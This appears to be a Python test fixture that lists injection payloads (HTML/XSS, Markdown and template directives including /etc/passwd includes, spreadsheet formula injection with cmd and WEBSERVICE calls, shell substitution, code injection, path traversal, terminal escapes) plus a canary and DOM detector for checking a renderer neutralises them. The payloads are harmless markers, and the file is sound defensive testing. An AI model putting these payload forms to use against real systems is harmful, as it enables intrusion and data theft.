"""Texts that some reader of text would obey: a browser, a parser of Markdown, a template, a spreadsheet, a shell.

Each bears its number. What becomes live calls `pwn(number)`, opens an address at pwn.invalid, makes an element with the
attribute data-pwn, or a file named pwned-….
"""

from __future__ import annotations

SCRIPT = r"""
<script>pwn(1)</script>
</script><script>pwn(2)</script>
<img src=x onerror=pwn(3)>
"><img src=x onerror=pwn(4)>
'><svg onload=pwn(5)>
<svg><script>pwn(6)</script></svg>
<iframe srcdoc="<script>parent.pwn(7)</script>"></iframe>
<body onload=pwn(8)>
<details open ontoggle=pwn(9)>x</details>
<a href="javascript:pwn(10)" data-pwn>klik</a>
<math><mtext><img src=x onerror=pwn(11)></mtext></math>
<style>@import url(https://pwn.invalid/12.css);</style>
<link rel=stylesheet href=https://pwn.invalid/13.css>
<meta http-equiv=refresh content="0;url=https://pwn.invalid/14">
<base href="https://pwn.invalid/15/">
<form action=https://pwn.invalid/16><input autofocus onfocus=pwn(16)></form>
<object data="https://pwn.invalid/17"></object>
--><img src=x onerror=pwn(18)><!--
]]><script>pwn(19)</script>
&lt;script&gt;pwn(20)&lt;/script&gt;
&#60;img src=x onerror=pwn(21)&#62;
" onmouseover="pwn(22)" autofocus onfocus="pwn(22)
' onfocus='pwn(23)' tabindex='1
\u003cscript\u003epwn(24)\u003c/script\u003e
%3Cscript%3Epwn(25)%3C/script%3E
<b data-pwn>fed 26</b>
</td></tr></table><b data-pwn>ud 27</b>
</title><b data-pwn>titel 28</b>
</caption></figcaption></figure><h1 data-pwn>29</h1>
""".strip().splitlines()

MARKDOWN = [
    "![billede](https://pwn.invalid/30.png)",
    "[klik](javascript:pwn(31))",
    "[henvisning]: https://pwn.invalid/32",
    "<https://pwn.invalid/33>",
    "# Overskrift 34",
    "`kode` **fed** _kursiv_ ~~streg~~ 35",
    "a 36\n\n| b | c |\n|---|---|\n| d | e |",
    "a 37\n\n```{raw} html\n<script>pwn(37)</script>\n```",
    "{raw}`html 38` {sub}`38` {download}`/etc/passwd`",
    ":::{note}\nbemærk 39\n:::",
    "a 40\n\n```{include} /etc/passwd\n```",
    "a 41\n\n```{eval-rst}\n.. raw:: html\n\n   <script>pwn(41)</script>\n```",
    "(pwn-42)=",
    "fod[^43]\n\n[^43]: note",
    "{.pwn #pwn44 onclick=pwn(44)}",
    "% kommentar 45",
    '+++ {"pwn": 46}',
    "---\ntitle: 47\n---",
    "1. liste 48\n- [ ] opgave",
    "> citat 49",
    "https://pwn.invalid/50",
    "    indrykket 51",
    "a 52\\\nb\\",
    "<div>\n\n[klik](https://pwn.invalid/53)\n\n</div>",
]
TEMPLATE = [
    "{{ 54 * 54 }}",
    "{% for x in range(55) %}pwn{% endfor %}",
    "{# kommentar 56 #}",
    "{{ ''.__class__.__mro__ }} 57",
    "|release| |today| |58|",
    ".. include:: /etc/passwd 59",
    "`pwn <https://pwn.invalid/60>`_ :download:`/etc/passwd`",
    "${61*61} #{61*61} <%= 61*61 %>",
    "%s %(x)s {0} {x.__class__} 62",
    r"$\frac{pwn$ 63",
    r"$x^2$ \(y\) $$z$$ 64",
]
FORMULA = [
    '=HYPERLINK("https://pwn.invalid/65";"klik")',
    "+1+cmd|' /C calc'!A66",
    "-2+3+cmd|' /C calc'!A67",
    "@SUM(1+1)*68",
    "\t=1+69",
    "\r=1+70",
    '=WEBSERVICE("https://pwn.invalid/71")',
]
CODE = [
    "../../../etc/passwd 72",
    "..\\..\\windows\\73",
    '"; import os; os.system("touch pwned-74"); "',
    "'''; open('pwned-75', 'w') #",
    '\\"; open("pwned-76", "w"); \\"',
    "$(touch pwned-77) `touch pwned-77`",
    "\x1b[2J\x1b]0;pwn\x07 78",
    "\u202evendt 79",
    "\u200b80\u200b",
    "brag 💥 81 \U000e0001",
    "x" * 300 + " 82",
    "slut 83\\",
]
PAYLOADS = [*SCRIPT, *MARKDOWN, *TEMPLATE, *FORMULA, *CODE]

# Names of files and folders: the same without what a file system forbids.
NAME = 'studie "; open("pwned-90", "w"); " <img src=x onerror=pwn(90)> {{ 90*90 }} $(touch pwned-90) {x}'
FILES = [
    "<img src=x onerror=pwn(91)>.csv",
    "{{ 92*92 }}.md",
    "$(touch pwned-93).txt",
    "=1+94.csv",
    "\x1b[2J95.csv",
    "[klik](https:pwn.invalid96).txt",
]

# Run in every document before its own scripts.
CANARY = "window.pwn = n => { (window.__pwned = window.__pwned || []).push(n); };"
LIVE = (
    "({ran: window.__pwned || [],"
    " made: [...document.querySelectorAll('[data-pwn], iframe, object, embed, base, meta[http-equiv=refresh],"
    ' a[href^="javascript:" i]:not(#searchbox a), [href*="pwn.invalid"], [src*="pwn.invalid"], [onerror], [onload],'
    " [onfocus], [onclick], [ontoggle], [onmouseover], script:not([src]):not([type]), link:not([href]),"
    " #pwn-42, .pwn')]"
    ".map(e => e.outerHTML.slice(0, 200))})"
)


def seen(text: str) -> str:
    """A text as it can be compared with what is shown: case, quotes, dashes, space and unseen characters aside."""
    for marks, plain in (('“”„‟"«»', '"'), ("‘’‚‛'", "'"), ("–—", "-")):
        for mark in marks:
            text = text.replace(mark, plain)
    text = "".join(c for c in text.replace("…", "...") if (c.isprintable() and c != "\ufffd") or c.isspace())
    return " ".join(text.replace("---", "-").replace("--", "-").split()).casefold()
